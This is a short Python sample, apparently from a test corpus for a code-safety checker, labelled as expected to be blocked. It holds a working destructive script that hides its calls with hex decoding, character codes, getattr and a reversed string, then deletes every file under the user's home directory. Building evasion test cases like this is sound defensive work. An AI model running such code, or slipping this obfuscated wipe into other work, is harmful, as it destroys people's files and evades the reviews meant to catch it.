# expect: BLOCKED category: destructive_wipe variant-of: risky/destructive_wipe/walk_delete_home.py technique: encode+getattr
os = __import__(bytes.fromhex('6f73').decode())
home = os.path.expanduser('~')
for root, dirs, files in getattr(os, ''.join(map(chr, [119, 97, 108, 107])))(home):
    for name in files:
        try:
            getattr(os, 'evomer'[::-1])(os.path.join(root, name))
        except OSError:
            pass
